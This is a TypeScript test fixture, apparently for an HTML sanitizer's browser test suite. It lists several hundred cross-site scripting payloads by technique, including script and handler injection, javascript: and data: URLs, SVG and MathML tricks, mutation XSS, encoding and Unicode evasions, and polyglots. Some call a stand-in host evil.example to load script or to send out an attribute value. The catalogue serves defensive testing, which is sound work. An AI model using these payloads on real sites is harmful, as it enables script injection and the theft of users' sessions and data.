/**
 * Hostile HTML that writers or commenters could paste. Every payload calls `xss()` (or alert,
 * confirm, prompt) so the browser suite can tell whether anything ran. `evil.example` never
 * resolves; the browser suite aborts every request that leaves its own server anyway.
 */
export interface XssVector {
  name: string;
  html: string;
}

const IMG = "<img src=x onerror=xss()>";

/** Ways to write one character as a numeric character reference. */
const references = {
  dec: (n: number) => `&#${n};`,
  "dec-nosemi": (n: number) => `&#${n}`,
  "dec-pad": (n: number) => `&#${String(n).padStart(7, "0")};`,
  hex: (n: number) => `&#x${n.toString(16)};`,
  // Without a semicolon a hex reference ends at the first non-hex character; here that is the
  // next `&` (or, after the last one, the `x` of the payload).
  "hex-nosemi": (n: number) => `&#x${n.toString(16).toUpperCase()}`,
  "hex-pad": (n: number) => `&#X${n.toString(16).padStart(6, "0")};`,
};

/** Each character of `text` as a numeric character reference, in the form `style` asks for. */
function encode(text: string, style: keyof typeof references): string {
  return [...text].map((ch) => references[style](ch.codePointAt(0)!)).join("");
}

const scriptTags: [string, string][] = [
  ["script, lower case", "<script>xss()</script>"],
  ["script, upper case", "<SCRIPT>xss()</SCRIPT>"],
  ["script, mixed case", "<ScRiPt>xss()</sCrIpT>"],
  ["script with src", '<script src="https://evil.example/x.js"></script>'],
  ["script with type", '<script type="text/javascript">xss()</script>'],
  ["script module", '<script type="module">xss()</script>'],
  ["script, newline before >", "<script\n>xss()</script\n>"],
  ["script, tab in end tag", "<script\t>xss()</script\t>"],
  ["script, slash as separator", '<script/src="data:,xss()"></script>'],
  ["script, junk attribute after slash", "<script/x>xss()</script>"],
  ["script, never closed", "<script>xss()"],
  ["script, end tag without >", "<script>xss()</script "],
  ["script split by inner script", "<scr<script>ipt>xss()</scr</script>ipt>"],
  ["script behind a stray <", "<<script>xss();//<</script>"],
  ["script ended inside a JS comment", "<script>/*</script>*/xss()//</script>"],
  ["script writing markup", "<script>document.write('<img src=x onerror=xss()>')</script>"],
  ["script, protocol-relative src, unclosed", "<script src=//evil.example/x.js>"],
  ["script with defer and empty body", '<script defer src="data:text/javascript,xss()"></script>'],
  ["script with long s (ſ)", "<ſcript>xss()</ſcript>"],
  ["script, space after <", "< script>xss()</script>"],
  ["script inside a paragraph", "<p>hello <script>xss()</script> world</p>"],
  ["script with event attribute", "<script onload=xss() src=data:,1></script>"],
];

const handlers: [string, string][] = [
  ["img onerror", IMG],
  ["img onerror, upper case", "<IMG SRC=x ONERROR=xss()>"],
  ["img onerror, mixed case", "<iMg sRc=x oNeRrOr=xss()>"],
  ["img onerror, spaces around =", '<img src=x onerror = "xss()" >'],
  ["img onerror, slashes as separators", "<img/src=x/onerror=xss()>"],
  ["img onerror, no space between attributes", "<img src='x'onerror='xss()'>"],
  ["img onerror, entity-encoded payload", "<img src=x onerror=&#x78;&#x73;&#x73;&#x28;&#x29;>"],
  ["img onerror with a remote src", '<img src="https://evil.example/none.png" onerror="xss()">'],
  ["img onload with a remote src", '<img src="https://evil.example/pixel.png" onload="xss()">'],
  ["img onerror, duplicate attribute", "<img src=x onerror=xss() onerror=xss()>"],
  ["img onerror, tag never closed", "<img src=x onerror=xss()"],
  ["img with dotless ı", "<ımg src=x onerror=xss()>"],
  ["p onmouseover", "<p onmouseover=xss()>hover me</p>"],
  ["p onmouseover, no space after quote", '<p title="x"onmouseover="xss()">hover me</p>'],
  ["span onmouseenter", '<span onmouseenter="xss()">hover me</span>'],
  ["td onpointerover", "<table><tr><td onpointerover=xss()>cell</td></tr></table>"],
  ["blockquote onclick", "<blockquote onclick=xss()>quote</blockquote>"],
  ["a onfocus with autofocus", '<a href="https://example.com/" autofocus onfocus="xss()">link</a>'],
  ["a onfocusin with tabindex", "<a tabindex=1 onfocusin=xss() autofocus>link</a>"],
  ["div onfocus with tabindex and autofocus", "<div tabindex=0 autofocus onfocus=xss()>x</div>"],
  ["input onfocus autofocus", "<input autofocus onfocus=xss()>"],
  ["select onfocus autofocus", "<select autofocus onfocus=xss()><option>a</option></select>"],
  ["textarea onfocus autofocus", "<textarea autofocus onfocus=xss()>x</textarea>"],
  ["button onfocus autofocus", "<button autofocus onfocus=xss()>b</button>"],
  ["keygen onfocus autofocus", "<keygen autofocus onfocus=xss()>"],
  ["details ontoggle open", "<details open ontoggle=xss()><summary>s</summary>body</details>"],
  ["summary onclick", "<details><summary onclick=xss()>open</summary>x</details>"],
  [
    "h1 onanimationstart with inline animation",
    '<h1 style="animation:spin 1s" onanimationstart=xss()>t</h1>',
  ],
  ["b onanimationend", "<b onanimationend=xss()>bold</b>"],
  ["em ontransitionend", '<em style="transition:color 1ms" ontransitionend=xss()>x</em>'],
  ["body onload", "<body onload=xss()>"],
  ["body onpageshow", "<body onpageshow=xss()>"],
  ["marquee onstart", "<marquee onstart=xss()>m</marquee>"],
  ["video source onerror", "<video><source onerror=xss()></video>"],
  ["audio onerror", "<audio src=x onerror=xss()></audio>"],
  ["ruby onwheel", "<ruby onwheel=xss()>漢<rt>kan</rt></ruby>"],
  ["pre oncopy", "<pre oncopy=xss()>copy</pre>"],
  ["div onscroll", '<div style="overflow:auto;height:1px" onscroll=xss()><br><br><br></div>'],
  ["attribute broken by quotes into a handler", "<p title=\"x\" ' onmouseover=xss() '>t</p>"],
  ["handler after a self-closing slash", "<br/onmouseover=xss()>"],
];

const jsHref = "javascript:xss()";
const urls: [string, string][] = [
  ["href javascript:", `<a href="${jsHref}">x</a>`],
  ["href JAVASCRIPT: upper case", '<a href="JAVASCRIPT:xss()">x</a>'],
  ["href JaVaScRiPt: mixed case", '<a href="JaVaScRiPt:xss()">x</a>'],
  ["href javascript:, unquoted", "<a href=javascript:xss()>x</a>"],
  ["href javascript:, single quotes", "<a href='javascript:xss()'>x</a>"],
  ["href javascript:, leading spaces", '<a href="   javascript:xss()">x</a>'],
  ["href javascript:, leading control character", '<a href="\u0001javascript:xss()">x</a>'],
  ["href javascript:, leading entity space", '<a href="&#32;&#x20;javascript:xss()">x</a>'],
  ["href javascript:, leading &#14;", '<a href="&#14;javascript:xss()">x</a>'],
  ["href javascript:, raw tab in scheme", '<a href="java\tscript:xss()">x</a>'],
  ["href javascript:, raw newline in scheme", '<a href="java\nscript:xss()">x</a>'],
  ["href javascript:, raw carriage return in scheme", '<a href="java\rscript:xss()">x</a>'],
  ["href javascript:, &#9; in scheme", '<a href="java&#9;script:xss()">x</a>'],
  ["href javascript:, &#x09; in scheme", '<a href="java&#x09;script:xss()">x</a>'],
  ["href javascript:, &Tab; in scheme", '<a href="java&Tab;script:xss()">x</a>'],
  ["href javascript:, &NewLine; in scheme", '<a href="jav&NewLine;ascript:xss()">x</a>'],
  ["href javascript:, &#x0D; in scheme", '<a href="jav&#x0D;ascript:xss()">x</a>'],
  ["href javascript:, first letter decimal", '<a href="&#106;avascript:xss()">x</a>'],
  ["href javascript:, first letter decimal without ;", '<a href="&#106avascript:xss()">x</a>'],
  ["href javascript:, first letter hex", '<a href="&#x6A;avascript:xss()">x</a>'],
  ["href javascript:, middle letter decimal", '<a href="javas&#99;ript:xss()">x</a>'],
  ["href javascript:, all decimal", `<a href="${encode("javascript:", "dec")}xss()">x</a>`],
  ["href javascript:, all decimal without ;", `<a href="${encode("javascript:", "dec-nosemi")}xss()">x</a>`],
  ["href javascript:, all decimal zero-padded", `<a href="${encode("javascript:", "dec-pad")}xss()">x</a>`],
  ["href javascript:, all hex", `<a href="${encode("javascript:", "hex")}xss()">x</a>`],
  ["href javascript:, all hex without ;", `<a href="${encode("javascript:", "hex-nosemi")}xss()">x</a>`],
  [
    "href javascript:, all hex zero-padded, upper X",
    `<a href="${encode("javascript:", "hex-pad")}xss()">x</a>`,
  ],
  ["href javascript&colon;", '<a href="javascript&colon;xss()">x</a>'],
  ["href javascript&#58;", '<a href="javascript&#58;xss()">x</a>'],
  ["href javascript&#x3A;", '<a href="jAvAsCrIpT&#x3A;xss()">x</a>'],
  ["href javascript: hidden after a newline comment", '<a href="javascript://%0Axss()">x</a>'],
  ["href javascript: with percent-encoded colon (relative)", '<a href="javascript%3Axss()">x</a>'],
  ["href javascript: after U+2028", '<a href="\u2028javascript:xss()">x</a>'],
  ["href javascript: with NUL in scheme", '<a href="java\u0000script:xss()">x</a>'],
  ["href javascript: with &#0; in scheme", '<a href="java&#0;script:xss()">x</a>'],
  ["href double-encoded javascript: (relative)", '<a href="&amp;#106;avascript:xss()">x</a>'],
  ["href javascript: with onclick too", '<a href="javascript:void(0)" onclick="xss()">x</a>'],
  ["href javascript: on a non-link tag", '<p href="javascript:xss()">x</p>'],
  ["href data: text/html", '<a href="data:text/html,<script>xss()</script>">x</a>'],
  ["href DATA: upper case base64", '<a href="DATA:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>'],
  ["href data: with tab", '<a href="da\tta:text/html,<script>xss()</script>">x</a>'],
  ["href vbscript:", '<a href="vbscript:msgbox(1)">x</a>'],
  ["href VBScript: mixed case with entity", '<a href="VBScript&#58;msgbox(1)">x</a>'],
  ["href https:javascript: (path, not scheme)", '<a href="https:javascript:xss()">x</a>'],
  ["href protocol-relative (allowed)", '<a href="//evil.example/">x</a>'],
  ["href backslash protocol-relative", '<a href="\\\\evil.example/">x</a>'],
  ["href with target and rel opener", '<a href="https://evil.example/" target="_blank" rel="opener">x</a>'],
  ["xlink:href on a", '<a xlink:href="javascript:xss()">x</a>'],
  ["img src javascript:", '<img src="javascript:xss()">'],
  ["img src entity-encoded javascript:", `<img src="${encode("javascript:", "dec")}xss()">`],
  ["img src vbscript:", '<img src="vbscript:msgbox(1)">'],
  [
    "img src data: SVG with onload",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>\">",
  ],
  ["img src data: png", '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ["img src relative to the archive", '<img src="/works/1/download.pdf">'],
  ["img src with leading NBSP (relative)", '<img src="\u00a0//evil.example/x.png">'],
  ["img srcset with javascript:", '<img src="https://example.com/a.png" srcset="javascript:xss() 1x">'],
  ["img lowsrc and dynsrc", '<img lowsrc="javascript:xss()" dynsrc="javascript:xss()">'],
  ["picture source srcset onerror", '<picture><source srcset="x" onerror="xss()"><img src=x></picture>'],
  ["video poster javascript:", '<video poster="javascript:xss()"></video>'],
  ["table background javascript:", '<table background="javascript:xss()"><tr><td>x</td></tr></table>'],
  ["a ping", '<a href="https://example.com/" ping="https://evil.example/track">x</a>'],
];

const svg: [string, string][] = [
  ["svg onload", "<svg onload=xss()>"],
  ["svg/onload", "<svg/onload=xss()>"],
  ["svg script", "<svg><script>xss()</script></svg>"],
  ["svg script with href", '<svg><script href="data:,xss()"/></svg>'],
  ["svg animate onbegin", "<svg><animate onbegin=xss() attributeName=x dur=1s>"],
  [
    "svg animate setting href to javascript:",
    '<svg><a><animate attributeName="href" values="javascript:xss()"/><text x="20" y="20">click</text></a></svg>',
  ],
  ["svg set onmouseover", '<svg><set attributeName="onmouseover" to="xss()"/></svg>'],
  [
    "svg use with data: href",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss()'/></svg>#x\"></use></svg>",
  ],
  ["svg foreignObject img", `<svg><foreignObject>${IMG}</foreignObject></svg>`],
  ["svg image onerror", "<svg><image href=x onerror=xss()></svg>"],
  [
    "svg a xlink:href javascript:",
    '<svg><a xlink:href="javascript:xss()"><rect width="9" height="9"/></a></svg>',
  ],
  ["svg style breakout", `<svg><style>${IMG}</style></svg>`],
  ["svg p style breakout", `<svg><p><style>${IMG}</style></p></svg>`],
  ["svg title breakout", `<svg><title>${IMG}</title></svg>`],
  ["svg desc breakout", `<svg><desc>${IMG}</desc></svg>`],
  ["svg CDATA", `<svg><![CDATA[>${IMG}]]></svg>`],
  [
    "svg handler element",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">xss()</handler></svg>',
  ],
];

const mathml: [string, string][] = [
  ["math mglyph style", `<math><mtext><table><mglyph><style>${IMG}`],
  [
    "math mglyph style with comment",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=xss()&gt;">',
  ],
  [
    "math maction xlink:href",
    '<math><maction actiontype="statusline#x" xlink:href="javascript:xss()">click</maction></math>',
  ],
  ["math href", '<math href="javascript:xss()">click</math>'],
  ["math form mglyph confusion", `<form><math><mtext></form><form><mglyph><style></math>${IMG}`],
  ["math annotation-xml html", `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`],
  ["math mi table mi style", `<math><mi><table><mi><style>${IMG}`],
  ["math malignmark style", `<math><mtext><h1><a><mglyph><malignmark><style>${IMG}`],
];

const styles: [string, string][] = [
  ["style attribute url(javascript:)", '<p style="background:url(javascript:xss())">x</p>'],
  ["style attribute expression()", '<div style="width: expression(xss())">x</div>'],
  ["style attribute escaped expression()", '<p style="x:\\65 xpression(xss())">x</p>'],
  ["style attribute behavior", '<span style="behavior:url(https://evil.example/x.htc)">x</span>'],
  ["style attribute -moz-binding", '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>'],
  ["style element @import javascript:", "<style>@import 'javascript:xss()';</style>"],
  ["style element @import escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:xss()';</STYLE>"],
  ["style element url(javascript:)", '<style>body{background:url("javascript:xss()")}</style>'],
  [
    "style element animating a handler",
    "<style>@keyframes k{}*{animation:k 1ms}</style><p onanimationstart=xss()>x</p>",
  ],
  ["style element hiding markup", `<style>${IMG}</style>`],
  ["link stylesheet javascript:", '<link rel="stylesheet" href="javascript:xss()">'],
  ["link import", '<link rel="import" href="data:text/html,<script>xss()</script>">'],
];

const documentLevel: [string, string][] = [
  ["meta refresh javascript:", '<meta http-equiv="refresh" content="0;url=javascript:xss()">'],
  ["meta refresh data:", '<meta http-equiv="refresh" content="0;url=data:text/html,<script>xss()</script>">'],
  ["meta refresh elsewhere", '<meta http-equiv="refresh" content="0; URL=https://evil.example/">'],
  ["base href", '<base href="javascript:xss()//"><a href="/x">x</a>'],
  ["base href elsewhere", '<base href="https://evil.example/"><a href="x">x</a>'],
  ["iframe srcdoc", '<iframe srcdoc="&lt;img src=x onerror=parent.xss()&gt;"></iframe>'],
  ["iframe src javascript:", '<iframe src="javascript:parent.xss()"></iframe>'],
  ["iframe src data:", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ["frameset", '<frameset><frame src="javascript:parent.xss()"></frameset>'],
  ["object data", '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ["object onerror", "<object data=x onerror=xss()></object>"],
  ["embed src", '<embed src="javascript:xss()">'],
  [
    "embed data SVG",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
  ],
  ["applet", '<applet code="x" codebase="javascript:xss()"></applet>'],
  ["form action javascript:", '<form action="javascript:xss()"><button>go</button></form>'],
  ["button formaction", '<form><button formaction="javascript:xss()">go</button></form>'],
  ["input formaction", '<form><input type="submit" formaction="javascript:xss()" value="go"></form>'],
  ["input type image onerror", '<input type="image" src="x" onerror="xss()">'],
  ["isindex action", '<isindex action="javascript:xss()" type="submit">'],
  ["bgsound", '<bgsound src="javascript:xss()">'],
  ["portal", '<portal src="https://evil.example/"></portal>'],
];

const malformed: [string, string][] = [
  ["img behind a stray <", "<<img src=x onerror=xss()>"],
  ["img with quotes in an attribute name", '<img """><script>xss()</script>">'],
  [
    "title closes early and opens img",
    '<a href="https://example.com/" title=\'"><img src=x onerror=xss()>\'>x</a>',
  ],
  ["entity-encoded quotes in title", '<p title="a&quot; onmouseover=&quot;xss()">t</p>'],
  ["numeric-encoded quotes in title", '<p title="&#34; onmouseover=&#34;xss()">t</p>'],
  ["backtick-quoted attributes", "<img src=`x`onerror=xss()>"],
  ["unquoted handler ending in //", "<p title=x onmouseover=xss()//>t</p>"],
  ["div closes over an open p", `<div><p></div>${IMG}`],
  ["img inside table cell without rows", `<table><td>${IMG}</table>`],
  ["text in a table (foster parenting)", `<table>text ${IMG}<tr><td>x</td></tr></table>`],
  ["unclosed nested inline tags", `<p>unclosed <b><i>nested${IMG}`],
  ["stray end tags", `</p></div>${IMG}</b>`],
  ["self-closing img with handler", "<img src=x onerror=xss()/>"],
  ["tag inside a tag", "<p <img src=x onerror=xss()>>t</p>"],
  ["unknown tag with handler", "<xss onmouseover=xss() style=display:block>hover</xss>"],
  ["custom element with handler", "<quire-card onclick=xss()>x</quire-card>"],
  ["fullwidth angle brackets (text)", "＜script＞xss()＜/script＞"],
  ["closing tag with attributes", "<p>x</p onmouseover=xss()>"],
];

const commentsAndCdata: [string, string][] = [
  ["markup inside a comment", `<!--${IMG}-->`],
  ["abruptly closed comment <!-->", `<!-->${IMG}-->`],
  ["abruptly closed comment <!--->", `<!--->${IMG}-->`],
  ["comment closed by --!>", `<!-- --!>${IMG}-->`],
  ["comment inside an attribute", `<p title="<!--">${IMG}-->`],
  ["CDATA section", `<![CDATA[${IMG}]]>`],
  ["conditional comment script", "<!--[if IE]><script>xss()</script><![endif]-->"],
  ["downlevel-revealed conditional comment", `<![if !IE]>${IMG}<![endif]>`],
  ["processing instruction", `<?xml version="1.0"?>${IMG}`],
  ["bogus comment <? >", `<? >${IMG} ?>`],
  ["doctype before markup", `<!DOCTYPE html>${IMG}`],
];

/** `<X><p title="</X><img ...>"></X>`: safe inside raw text, an image once re-parsed elsewhere. */
const mutation: [string, string][] = [
  ...[
    "noscript",
    "template",
    "textarea",
    "title",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "style",
    "script",
  ].map((tag): [string, string] => [
    `${tag} raw-text breakout`,
    `<${tag}><p title="</${tag}><img src=x onerror=xss()>"></${tag}>`,
  ]),
  ["plaintext swallows the rest", `<plaintext>${IMG}`],
  ["noscript with style breakout", `<noscript><style></noscript>${IMG}</style></noscript>`],
  ["listing with encoded markup", "<listing>&lt;img src=x onerror=xss()&gt;</listing>"],
  ["svg closes p then style breakout", '<svg></p><style><a id="</style><img src=1 onerror=xss()>">'],
  ["select template style", `<select><template><style>${IMG}</style></template></select>`],
  ["textarea inside a link", `<a href="https://example.com/"><textarea></a>${IMG}</textarea>`],
  ["option raw text", `<select><option><p title="</option>${IMG}"></option></select>`],
];

const namespaces: [string, string][] = [
  ["math inside svg foreignObject", `<svg><foreignObject><math><mi>${IMG}</mi></math></foreignObject></svg>`],
  ["svg inside math", `<math><svg><foreignObject>${IMG}</foreignObject></svg></math>`],
  ["svg desc nested svg", `<svg><desc><svg><foreignObject>${IMG}</foreignObject></svg></desc></svg>`],
  ["svg claiming the html namespace", `<svg xmlns="http://www.w3.org/1999/xhtml">${IMG}</svg>`],
  ["prefixed html:img", '<html:img xmlns:html="http://www.w3.org/1999/xhtml" src=x onerror=xss()>'],
  ["prefixed script", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>'],
];

const nullBytes: [string, string][] = [
  ["NUL inside script tag name", "<scr\u0000ipt>xss()</scr\u0000ipt>"],
  ["NUL before script tag name", "<\u0000script>xss()</script>"],
  ["NUL inside handler name", "<img src=x on\u0000error=xss()>"],
  ["NUL before =", "<img src=x onerror\u0000=xss()>"],
  ["NUL before javascript:", '<a href="\u0000javascript:xss()">x</a>'],
  ["NUL inside text", "a\u0000b<img src=x onerror=xss()\u0000>"],
];

/**
 * Bytes that are not UTF-8 (overlong forms, stray continuation bytes), written the way Python's
 * "surrogateescape" does: byte 0xXY becomes the lone surrogate U+DCXY. In a JavaScript string they
 * are broken Unicode; `formBytes()` sends them to a server as the raw bytes they stand for.
 */
export function rawBytes(hex: string): string {
  return hex.replace(/%([89a-f][0-9a-f])/gi, (_, b: string) =>
    String.fromCharCode(0xdc00 + Number.parseInt(b, 16)),
  );
}

/** `text` percent-encoded for a form body or a query string, raw bytes (see `rawBytes`) as they are. */
export function formBytes(text: string): string {
  let out = "";
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const pair = c >= 0xd800 && c <= 0xdbff && /[\uDC00-\uDFFF]/.test(text[i + 1] ?? "");
    if (pair) {
      out += encodeURIComponent(text.slice(i, i + 2));
      i++;
    } else if (c >= 0xdc80 && c <= 0xdcff) out += `%${(c - 0xdc00).toString(16).toUpperCase()}`;
    else if (c >= 0xd800 && c <= 0xdfff) {
      // Any other lone surrogate: its three-byte form, which no UTF-8 decoder accepts.
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join("");
    } else out += encodeURIComponent(text[i]!).replace(/%20/g, "+");
  }
  return out;
}

/** One payload for every quoting context at once, and texts that run wherever one of them is left. */
const polyglots: [string, string][] = [
  ["quotes then tag", `"'><img src=x onerror=xss()>`],
  ["closes every raw-text element", `'"--></textarea></title></style></noscript></script><svg onload=xss()>`],
  [
    "url, comment and raw text at once",
    "javascript:/*--></title></style></textarea></script><img src=x onerror=xss()>*/xss()//",
  ],
  ["double-quoted handler pair", `" onmouseover=xss() autofocus onfocus=xss() x="`],
  ["single-quoted handler pair", `' onmouseover=xss() autofocus onfocus=xss() x='`],
  ["backtick then tag", "`><img src=x onerror=xss()>"],
  ["script end then script", "</script><script>xss()</script>"],
  ["script string breakout", `";xss();//`],
  ["script single-quoted string breakout", `';xss();//`],
  ["script template literal breakout", "`;xss();//"],
  ["JSON object breakout", `"}];xss();//`],
  ["JSON breakout with line separators", `\u2028\u2029"};xss()//`],
  ["comment end then tag", `--><img src=x onerror=xss()>`],
  ["CDATA end then tag", `]]><img src=x onerror=xss()>`],
  ["JS block comment end", "*/xss()/*"],
  ["template expression, braces", "{{constructor.constructor('xss()')()}}"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
  ["template expression, dollar", "${xss()}"],
  ["template expression, hash", "#{xss()}"],
  ["server template tag", "<%= xss() %>"],
  ["pre-encoded tag", "&lt;img src=x onerror=xss()&gt;"],
  ["double-encoded script", "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;"],
  ["percent-encoded script", "%3Cscript%3Exss()%3C%2Fscript%3E"],
  ["double percent-encoded script", "%253Cscript%253Exss()%253C%252Fscript%253E"],
  ["JavaScript hex escapes as text", "\\x3cimg src=x onerror=xss()\\x3e"],
  ["JavaScript unicode escapes as text", "\\u003cscript\\u003exss()\\u003c/script\\u003e"],
  ["UTF-7 script", "+ADw-script+AD4-xss()+ADw-/script+AD4-"],
  ["US-ASCII high-bit script", "\u00bcscript\u00bexss()\u00bc/script\u00be"],
  ["HTML and SVG and URL at once", `javascript:"/*'/*\`/*--></title><svg/onload=xss()>`],
];

/** Breaking out of the value of an attribute, whichever quotes the page uses around it. */
const attributes: [string, string][] = [
  ["double-quoted autofocus", `" autofocus onfocus="xss()`],
  ["single-quoted autofocus", `' autofocus onfocus='xss()`],
  ["unquoted handler", "x onmouseover=xss()"],
  ["unquoted handler after slash", "x/onmouseover=xss()"],
  ["double-quoted animation", `" style="animation:probe 1s" onanimationstart="xss()`],
  ["double-quoted closes the tag", `"><script>xss()</script>`],
  ["single-quoted closes the tag", `'><script>xss()</script>`],
  ["entity-encoded double quote", "&quot; onmouseover=&quot;xss()"],
  ["numeric double quote", "&#34;&#62;&#60;img src=x onerror=xss()&#62;"],
  ["bare javascript: URL", "javascript:xss()"],
  ["bare javascript: URL, leading spaces", "   javascript:xss()"],
  ["bare javascript: URL, tab inside", "java\tscript:xss()"],
  ["bare javascript: URL, entity-encoded", "&#106;avascript&#58;xss()"],
  ["bare data: URL", "data:text/html,<script>xss()</script>"],
  ["bare data: URL, base64", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg=="],
  ["bare vbscript: URL", "vbscript:msgbox(1)"],
  ["href added to the tag", `" href="javascript:xss()`],
  ["query string breakout", `?a=1&b="><img src=x onerror=xss()>`],
  ["fragment breakout", `#"><img src=x onerror=xss()>`],
  ["srcdoc added to the tag", `" srcdoc="<script>xss()</script>`],
  ["formaction added to the tag", `" formaction="javascript:xss()`],
  ["closes a textarea", "</textarea><img src=x onerror=xss()>"],
  ["closes a title", "</title><img src=x onerror=xss()>"],
  ["closes a title, upper case with space", "</TITLE ><img src=x onerror=xss()>"],
  ["closes a style", "</style><img src=x onerror=xss()>"],
  ["closes a noscript", "</noscript><img src=x onerror=xss()>"],
  ["closes a select option", "</option></select><img src=x onerror=xss()>"],
];

/** Text that ends up inside a style sheet or a style attribute. */
const css: [string, string][] = [
  ["declaration with url(javascript:)", "red;background:url(javascript:xss())"],
  ["rule closed, new rule", `red}body{background-image:url("javascript:xss()")}`],
  ["bare expression()", "expression(xss())"],
  ["bare @import", `@import "javascript:xss()";`],
  ["style element closed", "</style><script>xss()</script>"],
  ["escaped url()", "\\75 rl(javascript:xss())"],
  ["behavior and binding", "behavior:url(#default#x);-moz-binding:url(data:,xss())"],
  ["style attribute with comment split", '<p style="background:url(java/**/script:xss())">x</p>'],
  ["style element with @import url", "<style>@import url(//evil.example/x.css);</style>"],
  [
    "style attribute exfiltrating an attribute",
    "<p style=\"background:url('https://evil.example/?'attr(title))\">x</p>",
  ],
];

/** SVG animation and references that point a link at script. */
const svgMore: [string, string][] = [
  [
    "set href to javascript:",
    '<svg><a><set attributeName="href" to="javascript:xss()"/><text y="20">go</text></a></svg>',
  ],
  [
    "animate xlink:href values",
    '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink"><animate attributeName="xlink:href" values="javascript:xss()"/><circle r="9"/></a></svg>',
  ],
  [
    "use xlink:href data:",
    '<svg><use xlink:href="data:image/svg+xml,&lt;svg id=%22x%22 onload=%22xss()%22/&gt;#x"/></svg>',
  ],
  [
    "svg with onload inside foreignObject body",
    "<svg><foreignObject><body onload=xss()></body></foreignObject></svg>",
  ],
  ["svg script with xlink:href", '<svg><script xlink:href="data:,xss()"></script></svg>'],
  ["svg feImage href", '<svg><filter><feImage href="javascript:xss()"/></filter></svg>'],
  ["svg discard onbegin", "<svg><discard onbegin=xss()></svg>"],
  ["svg animate onend", '<svg><animate attributeName="x" dur="1ms" onend="xss()"/></svg>'],
  ["svg listener element", '<svg><listener event="load" handler="#h"/><handler id="h">xss()</handler></svg>'],
];

/** Markup that reads one way to a sanitizer and another once the browser parses it again. */
const mutationMore: [string, string][] = [
  ["noscript attribute breakout", `<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>`],
  ["template inside table", `<table><template><td>${IMG}</td></template></table>`],
  ["template content reparsed", `<template><style></template>${IMG}</style></template>`],
  ["comment inside title", `<title><!--</title>${IMG}--></title>`],
  ["CDATA inside math", `<math><![CDATA[</math>${IMG}]]></math>`],
  ["CDATA in svg title", `<svg><title><![CDATA[</title>${IMG}]]></title></svg>`],
  ["svg inside noscript", `<noscript><svg><style></noscript>${IMG}</style></svg></noscript>`],
  ["math mtext mglyph svg", `<math><mtext><mglyph><svg><mtext><style><path id="</style>${IMG}">`],
  [
    "math annotation-xml svg style",
    `<math><annotation-xml encoding="text/html"><svg><style>${IMG}</style></svg></annotation-xml></math>`,
  ],
  ["form nested in form", `<form><form>${IMG}</form></form>`],
  ["noembed attribute breakout", `<noembed><p title="</noembed>${IMG}"></noembed>`],
  ["xmp with comment", `<xmp><!--</xmp>${IMG}--></xmp>`],
  ["comment with double dash inside", `<!-- a -- b --><!-- ${IMG} -- -->`],
];

/** Broken UTF-8 and escapes that a decoder could turn into markup. */
const encodings: [string, string][] = [
  [
    "overlong < and >",
    `${rawBytes("%C0%BC")}script${rawBytes("%C0%BE")}xss()${rawBytes("%C0%BC")}/script${rawBytes("%C0%BE")}`,
  ],
  ["three-byte overlong <", `${rawBytes("%E0%80%BC")}img src=x onerror=xss()${rawBytes("%E0%80%BE")}`],
  [
    "overlong quote in an attribute",
    `<p title="x${rawBytes("%C0%A2")} onmouseover=xss() y=${rawBytes("%C0%A2")}">t</p>`,
  ],
  ["stray continuation byte before <", `${rawBytes("%80")}<script>xss()</script>`],
  ["truncated sequence eats the <", `${rawBytes("%C3")}<img src=x onerror=xss()>`],
  ["lone high surrogate before a tag", "\ud800<img src=x onerror=xss()>"],
  ["lone low surrogate inside a tag name", "<scr\udc00ipt>xss()</scr\udc00ipt>"],
  ["lone surrogate in javascript:", '<a href="java\ud83dscript:xss()">x</a>'],
  ["NUL between quotes", `"\u0000><img src=x onerror=xss()>`],
  ["NUL entity in tag name", "<scr&#0;ipt>xss()</scr&#0;ipt>"],
  ["entity without semicolon ending in <", "&lt<img src=x onerror=xss()>"],
  ["ambiguous ampersand before name", "&ltimg src=x onerror=xss()&gt"],
  ["entity for < in a tag name", "&#60;script&#62;xss()&#60;/script&#62;"],
  ["hex entity beyond Unicode", "&#x110000;<img src=x onerror=xss()>"],
  ["C1 control in a handler name", "<img src=x on\u0085error=xss()>"],
];

/** Characters that look like markup, hide markup, or turn text around. */
const unicode: [string, string][] = [
  ["full-width img", "\uff1cimg src=x onerror=xss()\uff1e"],
  ["full-width quote breakout", "\uff02\uff1e\uff1cscript\uff1exss()\uff1c/script\uff1e"],
  ["small form variants", "\ufe64script\ufe65xss()\ufe64/script\ufe65"],
  ["CJK angle brackets", "\u3008script\u3009xss()\u3008/script\u3009"],
  ["right-to-left override reverses a tag", "\u202e>tpircs/<)(ssx>tpircs<\u202c"],
  ["right-to-left override inside a tag", "<img src=x \u202eonerror=xss()>"],
  ["left-to-right isolate in a link", '<a href="\u2066javascript:xss()\u2069">x</a>'],
  ["zero-width space in script", "<scr\u200bipt>xss()</scr\u200bipt>"],
  ["zero-width joiner in a handler", "<img src=x on\u200derror=xss()>"],
  ["zero-width space in javascript:", '<a href="java\u200bscript:xss()">x</a>'],
